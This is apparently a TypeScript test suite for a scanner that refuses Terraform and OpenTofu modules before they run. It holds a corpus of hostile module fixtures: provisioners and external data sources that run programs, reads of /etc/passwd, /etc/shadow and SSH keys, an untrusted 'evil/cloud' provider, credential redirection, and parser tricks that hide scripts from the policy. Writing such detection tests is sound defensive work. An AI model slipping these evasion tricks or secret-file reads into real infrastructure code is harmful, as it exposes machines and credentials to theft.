/** Modules that must not run, each refused for its own reason before any process, and the catalog, all of which may. */
import { existsSync, mkdtempSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, test } from 'vitest';
import { deployment } from '../../../test/deployment.ts';
import { temporaryFolder } from '../../../test/temporary-folder.ts';
import type { ModulePolicy } from './module-policy.ts';
import { scanModule } from './scan-module.ts';

const MAIN = 'resource "terraform_data" "a" {}\n';
const TPL = 'output "x" { value = templatefile("a.tpl", {}) }\n';

/** What it is, its files, and where and why it is refused. */
const HOSTILE: readonly (readonly [string, Readonly<Record<string, string>>, string])[] = [
  // Programs.
  [
    'an external data source',
    { 'main.tf': '\ndata "external" "x" {\n  program = ["sh", "-c", "id"]\n}' },
    'main.tf:2: data "external" runs a program',
  ],
  [
    'an external data source, label without quotes',
    { 'main.tf': 'data external x { program = ["id"] }' },
    'main.tf:1: data "external" runs a program',
  ],
  [
    'an external data source, its name escaped',
    { 'main.tf': 'data "exter\\u006eal" "x" {\n program = ["id"]\n}' },
    'main.tf:1: data "external" runs a program',
  ],
  [
    'an external data source in JSON',
    { 'main.tf': MAIN, 'x.tf.json': '{\n "data": {\n  "external": {"x": {"program": ["id"]}}\n }\n}' },
    'x.tf.json:3: data "external" runs a program',
  ],
  [
    'an external data source in a JSON list, its name escaped',
    { 'main.tf': MAIN, 'x.tf.json': '{"data": [{"e\\u0078ternal": [{"x": {"program": ["id"]}}]}]}' },
    'x.tf.json:1: data "external" runs a program',
  ],
  [
    'a JSON key that stands twice',
    { 'main.tf': MAIN, 'x.tf.json': '{"data": {"external": {"x": {}}},\n "data": {}}' },
    'x.tf.json:1: cannot be read: "data" stands twice in one object',
  ],
  [
    'a data source inside a check',
    { 'main.tf': 'check "up" {\n  data "http" "x" { url = "https://example.com" }\n}' },
    'main.tf:2: data "http" calls an address',
  ],
  [
    'a script while creating',
    { 'main.tf': 'resource "terraform_data" "a" {\n  provisioner "local-exec" {\n    command = "id"\n  }\n}' },
    'main.tf:2: provisioner "local-exec" runs a program on this machine',
  ],
  [
    'a script behind comments and in one line',
    {
      'main.tf':
        '/* provisioner\n*/ resource "terraform_data" "a" { # "{"\n provisioner local-exec { command = "id" }\n}',
    },
    'main.tf:3: provisioner "local-exec" runs a program on this machine',
  ],
  [
    'a script in JSON',
    {
      'main.tf.json':
        '{"resource": {"terraform_data": {"a": {\n "provisioner": [{"local-exec": {"command": "id"}}]\n}}}}',
    },
    'main.tf.json:2: provisioner "local-exec" runs a program on this machine',
  ],
  [
    'a script while something is forgotten',
    {
      'main.tf':
        'removed {\n  from = terraform_data.a\n  provisioner "local-exec" {\n    when    = destroy\n    command = "id"\n  }\n}',
    },
    'main.tf:3: provisioner "local-exec" runs a program on this machine',
  ],
  [
    'a script on another machine',
    { 'main.tf': 'resource "terraform_data" "a" {\n provisioner "remote-exec" { inline = ["id"] }\n}' },
    'main.tf:2: provisioner "remote-exec" runs a program on another machine',
  ],
  [
    'files copied to another machine',
    {
      'main.tf':
        'resource "terraform_data" "a" {\n provisioner "file" {\n source = "/etc/shadow"\n destination = "/tmp/x"\n}\n}',
    },
    'main.tf:2: provisioner "file" copies files to another machine',
  ],
  [
    'a script in a nested module',
    {
      'main.tf': 'module "inner" { source = "./inner" }',
      'inner/main.tf': 'resource "terraform_data" "a" {\n\n provisioner "local-exec" { command = "id" }\n}',
    },
    'inner/main.tf:3: provisioner "local-exec" runs a program on this machine',
  ],
  [
    'a script in a file that only OpenTofu reads',
    {
      'main.tf': MAIN,
      'more.tofu': 'resource "terraform_data" "b" {\n provisioner "local-exec" { command = "id" }\n}',
    },
    'more.tofu:2: provisioner "local-exec" runs a program on this machine',
  ],
  [
    'a heredoc that hides a script behind a marker that is none',
    {
      'main.tf':
        'locals {\n  text = <<-EOT\n    EOT x\n  EOT\n}\nresource "terraform_data" "a" {\n  provisioner "local-exec" { command = "id" }\n}\nlocals {\n  more = <<EOT\nEOT\n}',
    },
    'main.tf:7: provisioner "local-exec" runs a program on this machine',
  ],
  // For Terraform U+0085 is space and U+FEFF is not; for JavaScript it is the other way round. A script between two ends
  // of the same text was code for Terraform and text for the policy.
  ...['\u0085', '\ufeff'].map((space): (typeof HOSTILE)[number] => [
    `a text whose end stands behind U+${space.charCodeAt(0).toString(16)}`,
    {
      'main.tf': `locals {\n  a = [<<null\n${space}null\n]\n}\nresource "terraform_data" "x" {\n  provisioner "local-exec" { command = "id" }\n}\nlocals {\n  b = [\nnull\n]\n}\n`,
    },
    'main.tf:3: cannot be read: a space around the end of a text can be read in two ways',
  ]),
  [
    'a backend that runs a program',
    {
      'main.tf':
        'terraform {\n  backend "kubernetes" {\n    secret_suffix = "x"\n    exec {\n      command = "id"\n    }\n  }\n}\n' +
        MAIN,
    },
    'main.tf:4: backend "kubernetes": exec runs a program',
  ],
  [
    'a settings file for a backend, which can name a program',
    { 'main.tf': 'terraform {\n  backend "s3" {\n    shared_config_files = ["./aws.cfg"]\n  }\n}\n' + MAIN },
    'main.tf:3: backend "s3": shared_config_files reads a settings file, which may name a program to run',
  ],
  [
    'the same in JSON',
    {
      'main.tf': MAIN,
      'x.tf.json': '{"terraform": {"backend": {"s3": {\n"shared_config_files": ["./aws.cfg"]}}}}',
    },
    'x.tf.json:2: backend "s3": shared_config_files reads a settings file, which may name a program to run',
  ],
  // Providers and modules from elsewhere.
  [
    'a provider of somebody',
    {
      'main.tf':
        'terraform {\n  required_providers {\n    cloud = {\n      source = "evil/cloud"\n    }\n  }\n}\n' + MAIN,
    },
    'main.tf:3: provider evil/cloud is not on the list of allowed providers',
  ],
  [
    "a provider of somebody under an allowed one's name",
    {
      'main.tf':
        'terraform {\n required_providers {\n  google = { version = "~> 6.0", "source" = "registry.example.com/hashicorp/google" }\n }\n}\n' +
        MAIN,
    },
    'main.tf:3: provider registry.example.com/hashicorp/google is not on the list of allowed providers',
  ],
  [
    'a provider that nothing declares',
    { 'main.tf': 'resource "local_file" "x" {\n filename = "/root/.ssh/authorized_keys"\n content = "key"\n}' },
    'main.tf:1: provider hashicorp/local is not on the list of allowed providers',
  ],
  [
    'a provider chosen by a resource',
    { 'main.tf': 'resource "terraform_data" "x" {\n provider = null.other\n}' },
    'main.tf:2: provider hashicorp/null is not on the list of allowed providers',
  ],
  [
    'a provider source that is put together',
    { 'main.tf': 'terraform {\n required_providers {\n  x = { source = "${"evil"}/x" }\n }\n}\n' + MAIN },
    'main.tf:3: the source of provider "x" is not written out',
  ],
  [
    'a module from the network',
    { 'main.tf': 'module "x" {\n  source = "git::https://example.com/x.git"\n}' },
    'main.tf:2: module source git::https://example.com/x.git is not on the list of allowed sources',
  ],
  [
    'a module of the registry',
    { 'main.tf': 'module "x" {\n source = "terraform-aws-modules/vpc/aws"\n}' },
    'main.tf:2: module source terraform-aws-modules/vpc/aws is not on the list of allowed sources',
  ],
  [
    'a module beside this one',
    { 'main.tf': 'module "x" {\n source = "./../other"\n}' },
    'main.tf:2: module "x" (./../other) leaves the folder of the module',
  ],
  // Files of this machine.
  [
    'a file of this machine',
    { 'main.tf': 'output "x" {\n  value = file("/etc/passwd")\n}' },
    'main.tf:2: file() leaves the folder of the module',
  ],
  [
    'a file of this machine inside a text',
    { 'main.tf': 'output "x" {\n  value = "a ${upper("${file("/etc/passwd")}")}"\n}' },
    'main.tf:2: file() leaves the folder of the module',
  ],
  [
    'a file by its full name, over lines and comments',
    { 'main.tf': 'output "x" {\n  value = [core::filebase64 /* ( */ (\n  # )\n  "../../vars.tfvars.json")]\n}' },
    'main.tf:2: filebase64() leaves the folder of the module',
  ],
  [
    'a file reached through the module folder',
    { 'main.tf': 'output "x" {\n value = file("${path.module}/a/../../secret")\n}' },
    'main.tf:2: file() leaves the folder of the module',
  ],
  [
    'a file whose path is escaped',
    { 'main.tf': 'output "x" {\n value = file("\\u002e./secret")\n}' },
    'main.tf:2: file() leaves the folder of the module',
  ],
  [
    'a file that a person names',
    { 'main.tf': 'variable "f" {}\noutput "x" {\n value = file("${path.module}/${var.f}")\n}' },
    'main.tf:3: file() is given a path that is not written out',
  ],
  [
    'a file of the home folder',
    { 'main.tf': 'output "x" {\n value = file(pathexpand("~/.ssh/id_rsa"))\n}' },
    'main.tf:2: file() is given a path that is not written out',
  ],
  [
    'a list of files of this machine',
    { 'main.tf': 'output "x" {\n value = fileset(path.module, "../../**")\n}' },
    'main.tf:2: fileset() leaves the folder of the module',
  ],
  [
    'a file in JSON',
    { 'main.tf': MAIN, 'x.tf.json': '{"output": {"x": {\n "value": "${file(\\"/etc/passwd\\")}"}}}' },
    'x.tf.json:2: file() leaves the folder of the module',
  ],
  [
    'a file deep in JSON, in a key',
    {
      'main.tf': MAIN,
      'x.tf.json':
        '{"resource": {"terraform_data": {"b": {"input": {"action": [{"x": [\n{"${file(\\"/etc/passwd\\")}": 1}]}]}}}}}',
    },
    'x.tf.json:2: file() leaves the folder of the module',
  ],
  [
    'a template that reads a file of this machine',
    { 'main.tf': TPL, 'a.tpl': 'hello\n%{ if true }${file("/etc/passwd")}%{ endif }' },
    'a.tpl:2: file() leaves the folder of the module',
  ],
  [
    'a template that is put together',
    {
      'main.tf':
        'output "x" {\n value = templatestring(local.t, {})\n}\nlocals {\n t = "$${file(\\"/etc/passwd\\")}"\n}',
    },
    'main.tf:2: templatestring() evaluates a text that cannot be read beforehand',
  ],
  [
    'where the module lies',
    { 'main.tf': 'output "x" {\n value = abspath(path.module)\n}' },
    'main.tf:2: abspath() tells where the module lies on this machine',
  ],
  [
    'a file of this machine uploaded',
    { 'main.tf': 'resource "google_storage_bucket_object" "x" {\n name = "x"\n source = "/etc/shadow"\n}' },
    'main.tf:3: google_storage_bucket_object: source leaves the folder of the module',
  ],
  [
    "another deployment's state",
    { 'main.tf': 'data "terraform_remote_state" "x" {\n backend = "local"\n}' },
    'main.tf:1: data "terraform_remote_state" reads the state of another deployment',
  ],
  // Provider settings.
  [
    'a settings file for a provider, which can name a program',
    { 'main.tf': 'provider "aws" {\n shared_config_files = ["./aws.cfg"]\n}' },
    'main.tf:2: provider "aws": shared_config_files reads a settings file, which may name a program to run',
  ],
  [
    'credentials sent to another address',
    { 'main.tf': 'provider "aws" {\n endpoints { sts = "https://example.com" }\n}' },
    'main.tf:2: provider "aws": endpoints sends credentials to another address',
  ],
  [
    "a key file of this machine as a provider's credentials",
    { 'main.tf': 'provider "google" {\n credentials = "/etc/keys/other.json"\n}' },
    'main.tf:2: provider "google": credentials reads a file of this machine',
  ],
  [
    'a key file of this machine, its path put together',
    { 'main.tf': 'provider "google" {\n credentials = "${""}/etc/keys/other.json"\n}' },
    'main.tf:2: provider "google": credentials reads a file of this machine',
  ],
  [
    'credentials that name a file to read and an address to send it to',
    {
      'main.tf':
        'provider "google" {\n credentials = "{\\"type\\": \\"external_account\\", \\"credential_source\\": {\\"file\\": \\"/etc/shadow\\"}}"\n}',
    },
    'main.tf:2: provider "google": credentials reads a file of this machine',
  ],
  [
    'credentials sent to another cloud of the same provider',
    { 'main.tf': 'provider "google" {\n universe_domain = "example.com"\n}' },
    'main.tf:2: provider "google": universe_domain sends credentials to another address',
  ],
  [
    'an address called by a data source of an allowed provider',
    { 'main.tf': 'data "tls_certificate" "x" {\n url = "https://${var.secret}.example.com"\n}' },
    'main.tf:1: data "tls_certificate" calls an address',
  ],
  [
    'a key of OpenTofu that runs a program',
    {
      'main.tf': 'terraform {\n  encryption {\n    key_provider "external" "x" { command = ["id"] }\n  }\n}\n' + MAIN,
    },
    'main.tf:2: an encryption block can run a program and decides who can read the state',
  ],
  // What is brought along.
  [
    'plugins brought along',
    { 'main.tf': MAIN, 'terraform.d/plugins/x': '' },
    'terraform.d: brings its own provider programs',
  ],
  [
    'a data folder brought along',
    { 'main.tf': MAIN, '.terraform/modules/modules.json': '{}' },
    '.terraform: brings its own provider programs and settings',
  ],
  [
    'variables brought along',
    { 'main.tf': MAIN, 'x.auto.tfvars.json': '{}' },
    'x.auto.tfvars.json: sets variables that nobody sees in the review',
  ],
  [
    'an override brought along',
    { 'main.tf': MAIN, 'zz_override.tf': '' },
    'zz_override.tf: overrides what the other files say',
  ],
  // Files that could mean two things.
  [
    'a text that never ends',
    { 'main.tf': 'locals {\n a = "\n}' },
    'main.tf:2: cannot be read: a text in quotes runs over the end of its line',
  ],
  ['a comment that never ends', { 'main.tf': MAIN + '/* x' }, 'main.tf:2: cannot be read: a comment is never closed'],
  [
    'signs that can be read in two ways',
    { 'main.tf': 'locals {\n a = "$$${1}"\n}' },
    'main.tf:2: cannot be read: "$$${" can be read in two ways',
  ],
  [
    'bytes that are no text',
    { 'main.tf': MAIN, 'x.tf': '\ufeff' + MAIN },
    'x.tf:1: cannot be read: "\ufeff" cannot stand here',
  ],
];

const CATALOG = fileURLToPath(new URL('../../../../../examples/catalog', import.meta.url));

describe('hostile modules', () => {
  test('the corpus is large enough', () => expect(HOSTILE.length).toBeGreaterThanOrEqual(40));

  test.each(HOSTILE)('%s', async (_, files, problem) => {
    const d = deployment(files, {}, { policy: {}, binary: NO_PROGRAM });
    const output = await d.terraform.init(d.input(1), d.tools());
    if (output.outcome !== 'failed') throw new Error('it was accepted');
    const [first] = output.failure.diagnostics;
    expect(`${first?.file}${first?.line === undefined ? '' : `:${first.line}`}: ${first?.summary}`).toBe(problem);
    // No run was asked for, let alone started.
    expect(existsSync(join(d.folder(1), 'init'))).toBe(false);
    // Nor may the next step start one.
    await expect(d.terraform.plan(d.input(1), d.tools())).rejects.toThrow('was not initialised');
  });
});

/** A start of it would fail loudly. */
const NO_PROGRAM = { path: '/no/terraform', tool: 'Terraform', version: '1.11.4' } as const;

describe('modules that are fine', () => {
  const modules = readdirSync(CATALOG, { withFileTypes: true })
    .filter((entry) => entry.isDirectory())
    .flatMap(({ name }) => readdirSync(join(CATALOG, name)).map((entry) => `${name}/${entry}`));

  test('the catalog has twelve', () => expect(modules).toHaveLength(12));
  test.each(modules)('%s', async (module) => {
    await expect(scanModule(join(CATALOG, module), [], undefined)).resolves.toBeUndefined();
  });

  const text = (main: string, files: Record<string, string> = {}): string => {
    const folder = mkdtempSync(join(temporaryFolder(), 'm-'));
    for (const [name, content] of Object.entries({ 'main.tf': main, ...files }))
      writeFileSync(join(folder, name), content);
    return folder;
  };
  test.each([
    ['a file of its own', 'output "x" { value = file("${path.module}/a.txt") }'],
    ['a file of its own, from where it runs', 'output "x" { value = filesha256("./sub/../a.txt") }'],
    ['a template of its own', TPL],
    ['files of its own', 'output "x" { value = fileset("${path.module}/scripts", "**/*.sh") }'],
    ['words in comments and texts', '# data "external" "x" {}\nlocals { a = "file(\\"/etc/passwd\\") provisioner" }'],
    ["a provider's choice of its own endpoints", 'provider "aws" { use_fips_endpoint = true }'],
    ['a backend with its lock', 'terraform {\n  backend "s3" {\n    bucket = "b"\n    use_lockfile = true\n  }\n}'],
    ['an escaped template', 'locals { a = "$${file(\\"/etc/passwd\\")}" }'],
    ['a heredoc with quotes and braces', 'locals {\n a = <<-EOT\n  "{ ${ { a = "}" }.a } \\\n  EOT\n}\n' + MAIN],
    ['comparisons, functions and loops', 'locals { a = [for k, v in { a = 1 } : k if v >= 1 && !(v == 2)]\n}\n' + MAIN],
    ['a splat, an index and a condition', 'locals { a = [1][*]\n b = [1][0] > 0 ? 1e3 : -2.5 % 2 }'],
  ])('%s', async (_, main) => {
    await expect(scanModule(text(main, { 'a.tpl': 'x ${1 + 1}' }), [], undefined)).resolves.toBeUndefined();
  });

  test.each([
    'git::https://example.com/ours/../theirs/x.git',
    'git::https://example.com/ours/%2e%2E/theirs/x.git',
    'git::https://example.com/ours/..%2ftheirs/x.git',
    'git::https://example.com/ours/..\\\\theirs/x.git',
  ])('a source that only begins as allowed is refused: %s', async (source) => {
    const allowed = { moduleSources: ['git::https://example.com/ours/'] };
    await expect(scanModule(text(`module "x" { source = "${source}" }`), [], allowed)).rejects.toMatchObject({
      code: 'policy',
    });
  });

  test.each<[string, string, Partial<ModulePolicy>]>([
    ['a data source', 'data "http" "x" { url = "https://example.com" }', { dataSources: ['http'] }],
    [
      'a provisioner',
      'resource "terraform_data" "a" {\n provisioner "local-exec" { command = "id" }\n}',
      { provisioners: ['local-exec'] },
    ],
    [
      'a provider',
      'resource "datadog_monitor" "x" {}\nterraform {\n required_providers {\n datadog = { source = "DataDog/datadog" }\n}\n}',
      { providers: ['datadog/datadog'] },
    ],
    [
      'a module source',
      'module "x" { source = "terraform-aws-modules/vpc/aws" }',
      { moduleSources: ['terraform-aws-modules/'] },
    ],
    [
      'a provider setting',
      'provider "aws" {\n endpoints { s3 = "http://localhost" }\n}',
      { providerSettings: ['endpoints'] },
    ],
    ['files anywhere', 'output "x" { value = file("/etc/hostname") }', { filesAnywhere: true }],
  ])('%s that the policy allows', async (_, main, policy) => {
    await expect(scanModule(text(main), [], undefined)).rejects.toMatchObject({ code: 'policy' });
    await expect(scanModule(text(main), [], policy)).resolves.toBeUndefined();
  });
});
